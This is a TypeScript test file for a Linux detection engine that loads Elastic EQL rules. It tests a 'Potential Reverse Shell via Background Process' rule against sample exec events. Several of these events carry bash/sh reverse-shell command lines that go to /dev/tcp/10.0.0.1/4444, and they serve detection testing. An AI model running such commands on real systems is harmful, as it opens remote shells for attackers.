import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { entityId } from "../../../src/process/ecs-process.js";
import { ecsHost } from "../../../src/rules/elastic/ecs-host.js";
import type { ProcessInfo, ProcessView, RuleContext } from "../../../src/engine/rule.js";
import type { ExecEvent } from "../../../src/sensor/events.js";
import { OFFLINE_HOST } from "../../../src/host/host-view.js";
import { anchorsOf } from "../../../src/eql/analysis.js";
import { compileEql, Deferred, getField } from "../../../src/eql/compile.js";
import { buildExecEcsDocument } from "../../../src/rules/elastic/ecs-exec.js";
import {
  ElasticRuleError,
  loadElasticRuleFile,
  loadElasticRules,
} from "../../../src/rules/elastic/loader.js";
import { builtinElasticRulesDir, elasticRule, loadBuiltinElasticRules } from "../../../src/rules/elastic/rule.js";

/** A document as queries see it: every Deferred value read, missing ones left out. */
function readAll(value: unknown): unknown {
  if (value instanceof Deferred) return readAll(value.get());
  if (Array.isArray(value)) return value.map(readAll);
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).flatMap(([key, child]) => {
    const read = readAll(child);
    return read === undefined ? [] : [[key, read]];
  }));
}

const SEED_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";
const SEED_FILE = join(builtinElasticRulesDir(), "execution_potential_reverse_shell_via_background_process.toml");

function processes(entries: ProcessInfo[]): ProcessView {
  return {
    get: (pid) => entries.find((entry) => entry.pid === pid),
    ancestors: () => [],
  };
}

function proc(pid: number, executable: string, args: string[]): ProcessInfo {
  const name = executable.slice(executable.lastIndexOf("/") + 1);
  return { pid, ppid: 1, startNs: 1, executable, name, args, uid: 1000, comm: name, cgroupId: 1, exited: false };
}

function execEvent(filename: string, args: string[], parentComm = "bash"): ExecEvent {
  const comm = filename.slice(filename.lastIndexOf("/") + 1);
  return {
    kind: "exec",
    timeNs: 1,
    timeMs: 1,
    task: { pid: 200, tid: 200, ppid: 100, uid: 1000, gid: 1000, cgroupId: 1, startNs: 2, comm, parentComm },
    filename,
    filenameTruncated: false,
    args,
    argsRaw: "",
    argsTruncated: false,
    loginUid: 1000,
    stdio: null,
    capabilities: null,
  };
}

const shellParent = processes([proc(100, "/usr/bin/bash", ["bash"])]);
const ctx = (view: ProcessView): RuleContext => ({ processes: view, host: OFFLINE_HOST, now: () => 0 });

describe("ECS exec document", () => {
  it("carries the process and its parent", () => {
    const doc = buildExecEcsDocument(execEvent("/usr/bin/nohup", ["nohup", "sleep", "1"]), shellParent);
    expect(readAll(doc)).toEqual({
      event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
      host: ecsHost(""),
      process: {
        pid: 200,
        entity_id: entityId(200, 2, ""),
        name: "nohup",
        executable: "/usr/bin/nohup",
        args: ["nohup", "sleep", "1"],
        args_count: 3,
        command_line: "nohup sleep 1",
        parent: { pid: 100, name: "bash", entity_id: entityId(100, 1, ""), executable: "/usr/bin/bash", args: ["bash"], args_count: 1, command_line: "bash" },
        real_user: { id: "1000" },
        real_group: { id: "1000" },
      },
      user: { id: "1000", Ext: { real: { id: "1000" } } },
      group: { id: "1000", Ext: { real: { id: "1000" } } },
    });
  });

  it("reads the working directory from the process view only when a rule asks", () => {
    const asked: number[] = [];
    const view: ProcessView = { ...shellParent, workingDirectory: (pid) => (asked.push(pid), "/tmp/x") };
    const doc = buildExecEcsDocument(execEvent("/usr/bin/nohup", ["nohup"]), view);
    expect(asked).toEqual([]);
    expect(getField(doc, "process.working_directory")).toBe("/tmp/x");
    expect(getField(doc, "process.working_directory")).toBe("/tmp/x");
    expect(asked).toEqual([200]);
    expect(compileEql('process where process.working_directory : "/tmp/*"').test(doc)).toBe(true);
  });

  it("falls back to the parent comm when the table does not know the parent", () => {
    const doc = buildExecEcsDocument(execEvent("/usr/bin/nohup", ["nohup"], "zsh"), processes([]));
    expect(doc["process"]).toMatchObject({ parent: { pid: 100, name: "zsh" } });
  });
});

describe("seed rule: Potential Reverse Shell via Background Process", () => {
  const [loaded] = loadElasticRules([SEED_FILE]);
  const rule = elasticRule(loaded!.rule!);
  const fires = (event: ExecEvent, view: ProcessView = shellParent) => rule.evaluate(event, ctx(view)) != null;

  it("loads with the seed's metadata", () => {
    expect(loaded!.status).toBe("runs");
    const meta = rule.meta;
    expect(meta.id).toBe(SEED_ID);
    expect(meta.name).toBe("Potential Reverse Shell via Background Process");
    expect(meta.severity).toBe("medium");
    expect(meta.riskScore).toBe(47);
    expect(meta.source).toBe(SEED_FILE);
    expect(meta.tags).toContain("Tactic: Execution");
    expect(meta.description).toMatch(/^Monitors for the execution of background processes/);
    expect(meta.threat.map((t) => t.tactic.id)).toEqual(["TA0002", "TA0011"]);
    expect(meta.threat[0]!.technique![0]!.subtechnique).toEqual([
      { id: "T1059.004", name: "Unix Shell", reference: "https://attack.mitre.org/techniques/T1059/004/" },
    ]);
    expect(meta.threat[1]!.technique).toEqual([
      { id: "T1071", name: "Application Layer Protocol", reference: "https://attack.mitre.org/techniques/T1071/" },
    ]);
    expect(meta.extra).toMatchObject({ language: "eql", type: "eql", metadata: { creation_date: "2023/09/20" } });
    expect(rule.kinds).toEqual(["exec"]);
    expect(loaded!.rule!.compiled.fields).toContain("process.parent.name");
  });

  it("an exec of another program is decided without building its ECS document", () => {
    const compiled = loaded!.rule!.compiled;
    if (compiled.kind !== "event") throw new Error("the seed rule is a single-event rule");
    expect(anchorsOf(compiled.where, (field) => (field === "process.name" ? 0 : undefined))?.map((a) => a.value).sort()).toEqual(["nohup", "setsid"]);
    // Building the document looks the parent (pid 100) up; the prefilter reads only the exec's own entry.
    let lookups = 0;
    const counting: ProcessView = { get: (pid) => (pid === 100 && lookups++, shellParent.get(pid)), ancestors: () => [] };
    expect(fires(execEvent("/usr/bin/ls", ["ls", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(false);
    expect(lookups).toBe(0);
    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(true);
    expect(lookups).toBeGreaterThan(0);
  });

  it("loadBuiltinElasticRules includes it", () => {
    expect(loadBuiltinElasticRules().map((r) => r.meta.id)).toContain(SEED_ID);
  });

  it("fires for nohup bash -c '... /dev/tcp/... 0>&1' under a shell", () => {
    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]))).toBe(true);
  });

  it('fires for setsid sh -c "sh -i >& /dev/tcp/h/1 0>&1" under a shell', () => {
    const view = processes([proc(100, "/usr/bin/dash", ["sh"])]);
    expect(fires(execEvent("/usr/bin/setsid", ["setsid", "sh", "-c", "sh -i >& /dev/tcp/h/1 0>&1"]), view)).toBe(true);
  });

  it("fires for upper-case /DEV/TCP/", () => {
    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1"]))).toBe(true);
  });

  it("fires with only the parent comm known", () => {
    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "sh", "-c", "sh -i >& /dev/tcp/h/1 0>&1"], "zsh"), processes([]))).toBe(true);
  });

  it("is silent when the parent is not a shell", () => {
    const view = processes([proc(100, "/usr/bin/python3", ["python3", "x.py"])]);
    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"], "python3"), view)).toBe(false);
  });

  it("is silent when the process is not setsid/nohup", () => {
    expect(fires(execEvent("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"]))).toBe(false);
  });

  it("is silent without 0>&1", () => {
    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /dev/tcp/h/1"]))).toBe(false);
  });

  it("is silent when the pattern is split across argv elements", () => {
    expect(fires(execEvent("/usr/bin/setsid", ["setsid", "bash", "-i", ">&", "/dev/tcp/h/1", "0>&1"]))).toBe(false);
  });
});

describe("loader errors", () => {
  const dir = mkdtempSync(join(tmpdir(), "sockeye-elastic-"));
  const write = (name: string, text: string) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    return path;
  };
  const rule = (query: string | undefined, extra = "") =>
    [
      "[rule]",
      'rule_id = "r1"',
      'name = "test"',
      'description = "d"',
      'severity = "low"',
      "risk_score = 21",
      'type = "eql"',
      'language = "eql"',
      extra,
      ...(query !== undefined ? ["query = '''", query, "'''"] : []),
      "",
    ].join("\n");

  const good = write("a_good.toml", rule('process where process.name == "nohup"'));
  const cases: [string, string, RegExp][] = [
    ["bad.toml", '[rule]\nname = "x"\nrule_id = = 3\n', /^.*bad\.toml:3: TOML syntax error: /],
    ["noquery.toml", rule(undefined), /^.*noquery\.toml: missing rule\.query$/],
    ["syntax.toml", rule('process where\nprocess.name == "a" and and'), /^.*syntax\.toml:12: EQL: .* \(query 2:25\)$/],
    [
      "sequence.toml",
      rule("sequence by process.entity_id\n [process where true]\n [network where true] with runs=0", ""),
      /^.*sequence\.toml:13: EQL: runs must be an integer from 1 to 100 \(query 3:23\)$/,
    ],
    [
      "sample.toml",
      rule("sample by host.id\n [process where true]\n [network where true]", ""),
      /^.*sample\.toml:11: EQL: sample queries are not supported.*\(query 1:1\)$/,
    ],
    ["nesting.toml", rule(`process where ${"(".repeat(3000)}true${")".repeat(3000)}`), /^.*nesting\.toml:11: EQL: nested deeper than 100 levels \(query 1:\d+\)$/],
    ["nots.toml", rule(`process where ${"not ".repeat(100_000)}true`), /^.*nots\.toml:11: EQL: nested deeper than 100 levels/],
    ["escape.toml", rule('process where process.name == "\\u{110000}"'), /^.*escape\.toml:11: EQL: \\u\{…\} escape beyond U\+10FFFF in string \(query 1:32\)$/],
    ["kuery.toml", rule("process.name : x").replace('language = "eql"', 'language = "kuery"'), /kuery\.toml: language "kuery" is not supported/],
    ["file.toml", rule('file where file.path == "/etc/shadow"'), /file\.toml: event category "file" is not supported \(only process, network, any\)/],
    ["noid.toml", rule('process where true == true').replace('rule_id = "r1"\n', ""), /noid\.toml: invalid rule file: rule\.rule_id: Required$/],
  ];

  // Written up front so the lenient test does not depend on test order.
  for (const [name, text] of cases) write(name, text);

  it.each(cases)("%s → one-line error naming the file", (name, text, message) => {
    const path = write(name, text);
    let thrown: unknown;
    try {
      loadElasticRuleFile(path);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(ElasticRuleError);
    const err = thrown as ElasticRuleError;
    expect(err.message.startsWith(path)).toBe(true);
    expect(err.message).toMatch(message);
    expect(err.message).not.toContain("\n");
  });

  it("strict mode throws on the first bad file", () => {
    expect(() => loadElasticRules([good, join(dir, "noquery.toml")])).toThrow(ElasticRuleError);
  });

  it("lenient mode skips bad files and the rest run", () => {
    const results = loadElasticRules([dir], { lenient: true });
    const byName = new Map(results.map((r) => [r.source.slice(dir.length + 1), r]));
    expect(byName.get("a_good.toml")?.status).toBe("runs");
    const runnable = results.filter((r) => r.status === "runs");
    expect(runnable.map((r) => r.source)).toEqual([good]);
    for (const [name] of cases) {
      const result = byName.get(name);
      expect(result?.status).toBe("skipped");
      expect(result?.reason?.startsWith(join(dir, name))).toBe(true);
      expect(result?.rule).toBeUndefined();
    }
    const compiled = elasticRule(runnable[0]!.rule!);
    expect(compiled.evaluate(execEvent("/usr/bin/nohup", ["nohup"]), ctx(shellParent))).toEqual({});
  });

  it("a missing file is an error naming it", () => {
    expect(() => loadElasticRuleFile(join(dir, "nope.toml"))).toThrow(/nope\.toml: cannot read: ENOENT/);
  });
});
